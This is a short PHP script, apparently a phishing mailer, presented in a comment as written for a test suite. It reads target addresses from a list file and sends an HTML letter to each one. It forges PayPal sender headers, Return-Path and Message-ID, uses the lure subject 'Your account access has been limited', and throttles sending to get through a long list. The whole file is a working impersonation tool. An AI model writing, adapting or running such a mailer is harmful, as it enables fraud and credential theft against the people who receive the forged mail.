<?php
// Written for breachkit's tests: a mailer that reads its recipients from a list
// file and forges a brand's sender headers.
@set_time_limit(0);
$letter  = file_get_contents(__DIR__ . '/letter.html');
$targets = file(__DIR__ . '/mails.txt', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$subject = "Your account access has been limited";
$headers  = "MIME-Version: 1.0\r\n";
$headers .= "Content-Type: text/html; charset=UTF-8\r\n";
$headers .= "From: Service <service@intl.paypal.com>\r\n";
$headers .= "Return-Path: service@intl.paypal.com\r\n";
foreach ($targets as $n => $rcpt) {
    $id = "Message-ID: <" . md5(uniqid($rcpt, true)) . "@paypal.com>\r\n";
    if (@mail(trim($rcpt), $subject, $letter, $headers . $id)) {
        echo ($n + 1) . " sent to " . htmlspecialchars($rcpt) . "<br>\n";
    }
    usleep(250000);
}
